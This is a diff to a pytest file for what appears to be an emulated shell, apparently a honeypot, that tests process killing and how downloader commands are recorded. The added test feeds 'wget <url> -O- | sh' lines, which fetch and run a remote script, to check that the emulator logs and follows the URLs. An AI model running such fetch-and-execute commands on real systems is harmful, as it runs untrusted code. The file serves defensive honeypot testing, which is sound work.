@@ -3,7 +3,9 @@
 
 from __future__ import annotations
 
-from mead.shell import FileWritten, Ran, Shell
+import pytest
+
+from mead.shell import FileWritten, Offer, Ran, Shell
 
 
 def test_chance_belongs_to_the_session(shell: Shell) -> None:
@@ -31,3 +33,22 @@ def test_killed_processes_are_gone(shell: Shell) -> None:
     assert b"telnetd" in shell.run(b"ps").output
     assert shell.run(b"killall telnetd; pidof telnetd; echo $?").output == b"1\n"
     assert b"telnetd" not in shell.run(b"ps").output
+
+
+@pytest.mark.parametrize(
+    ("typed", "noted"),
+    [
+        (b"http://8.8.8.8/\xc3\xa9.sh", "http://8.8.8.8/é.sh"),
+        (b"http://8.8.8.8/\xff\xc3.sh", "http://8.8.8.8/%FF%C3.sh"),
+        (b"http://8.8.8.8/%ff.sh", "http://8.8.8.8/%ff.sh"),
+    ],
+)
+def test_a_script_behind_any_url_is_followed(shell: Shell, typed: bytes, noted: str) -> None:
+    offers = [
+        effect.url
+        for effect in shell.run(b"wget " + typed + b" -O- | sh").effects
+        if isinstance(effect, Offer)
+    ]
+    assert offers == [noted]
+    reply = shell.deliver(noted, b"wget http://8.8.8.8/next\n")
+    assert [effect.url for effect in reply.effects if isinstance(effect, Offer)] == ["http://8.8.8.8/next"]
